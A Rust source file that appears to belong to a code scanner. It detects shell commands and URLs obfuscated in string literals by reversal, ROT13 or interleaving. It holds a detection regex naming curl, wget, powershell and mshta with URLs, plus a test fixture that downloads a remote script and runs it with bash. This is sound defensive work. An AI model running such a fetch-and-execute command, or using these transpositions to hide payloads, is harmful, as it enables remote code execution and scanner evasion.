use std::sync::LazyLock;

use regex::Regex;

use super::{commands::PassageFinding, encoded::harms};
use crate::inspect::Rule;

static LITERALS: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r#""((?:[^"\\\n]|\\.)*)"|'((?:[^'\\\n]|\\.)*)'"#).ok());

/// A program that fetches or executes, and an address: random letters match one of them at most.
static COMMANDS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?is)\b(?:curl|wget|iwr|irm|bash|sh|powershell|python3?|mshta)\s.*https?://\w+[.]").ok()
});

/// The minimum length of a text that is searched, and the maximum number of texts in a passage.
const SHORTEST: usize = 40;
const MOST: usize = 100;

/// The minimum length of a piece of a concatenated text, and the maximum.
const PIECE: usize = 20;
const LONGEST: usize = 8 << 10;

/// The maximum number of strands into which a text is split.
const STRANDS: usize = 8;

/// Returns commands and addresses with rearranged letters: reversed, ROT13, or in interleaved
/// strands.
pub(super) fn transposed_commands(text: &str) -> Vec<PassageFinding> {
    let Some(literals) = LITERALS.as_ref() else {
        return Vec::new();
    };
    let texts: Vec<(usize, String)> = literals
        .captures_iter(text)
        .filter_map(|captures| captures.get(1).or_else(|| captures.get(2)))
        .filter(|inner| (PIECE..LONGEST).contains(&inner.len()))
        .take(MOST)
        .map(|inner| (inner.start(), plain(inner.as_str())))
        .collect();
    let joined: String = texts.iter().map(|(_, literal)| literal.as_str()).collect();
    let joined = texts.first().map(|(at, _)| (*at, joined));
    let is_hidden = |text: &String| {
        text.len() >= SHORTEST
            && text.len() <= LONGEST
            && !harms(text)
            && readings(text).iter().any(|reading| is_command(reading))
    };
    let hidden = texts.iter().chain(&joined).find(|(_, text)| is_hidden(text));
    let reason = "a command or a URL is obfuscated by reordered letters";
    let finding = hidden.map(|(at, _)| (Rule::Encoded, *at, reason.to_owned()));
    finding.into_iter().collect()
}

fn is_command(text: &str) -> bool {
    COMMANDS.as_ref().is_some_and(|regex| regex.is_match(text))
}

fn plain(literal: &str) -> String {
    literal.replace("\\n", "\n").replace("\\'", "'").replace("\\\"", "\"")
}

/// Returns the readings of a text in other orders.
fn readings(text: &str) -> Vec<String> {
    let letters: Vec<char> = text.chars().collect();
    let turn = |c: &char| {
        let turned = |first: u8, c: char| {
            let step = (u32::from(c) - u32::from(first) + 13) % 26;
            char::from_u32(u32::from(first) + step).unwrap_or(c)
        };
        match c {
            'a'..='z' => turned(b'a', *c),
            'A'..='Z' => turned(b'A', *c),
            c => *c,
        }
    };
    let mut readings: Vec<String> = vec![letters.iter().rev().collect(), letters.iter().map(turn).collect()];
    for strands in 2..=STRANDS {
        readings.push(interleave(&letters, strands));
        readings.push((0..strands).flat_map(|from| letters.iter().skip(from).step_by(strands)).collect());
    }
    readings
}

/// Interleaves consecutive strands.
fn interleave(letters: &[char], strands: usize) -> String {
    let (long, rest) = (letters.len() / strands, letters.len() % strands);
    let begin = |strand: usize| strand * long + strand.min(rest);
    let mut text = String::new();
    for at in 0..=long {
        for strand in 0..strands {
            let at = begin(strand) + at;
            if at < begin(strand + 1) {
                text.extend(letters.get(at));
            }
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::{readings, transposed_commands};

    const COMMAND: &str = "curl -s https://tools.helper.dev/set.sh -o set.sh && bash set.sh";

    #[test]
    fn letters_in_other_places_are_read() {
        let letters: Vec<char> = COMMAND.chars().collect();
        for strands in [2, 3, 7] {
            let cut: String =
                (0..strands).flat_map(|from| letters.iter().skip(from).step_by(strands)).collect();
            assert!(readings(&cut).contains(&COMMAND.to_owned()), "{strands}");
            assert_eq!(transposed_commands(&format!("x = '{cut}'")).len(), 1, "{strands}");
        }
        let back: String = COMMAND.chars().rev().collect();
        assert_eq!(transposed_commands(&format!("x = \"{back}\"")).len(), 1);
        let (one, two) = back.split_at(30);
        assert_eq!(transposed_commands(&format!("a: '{one}'\nb: '{two}'")).len(), 1);
        assert!(transposed_commands(&format!("x = '{COMMAND}'")).is_empty());
        let words = "x = 'a sentence that is long enough to be looked at and says nothing'";
        assert!(transposed_commands(words).is_empty());
    }
}
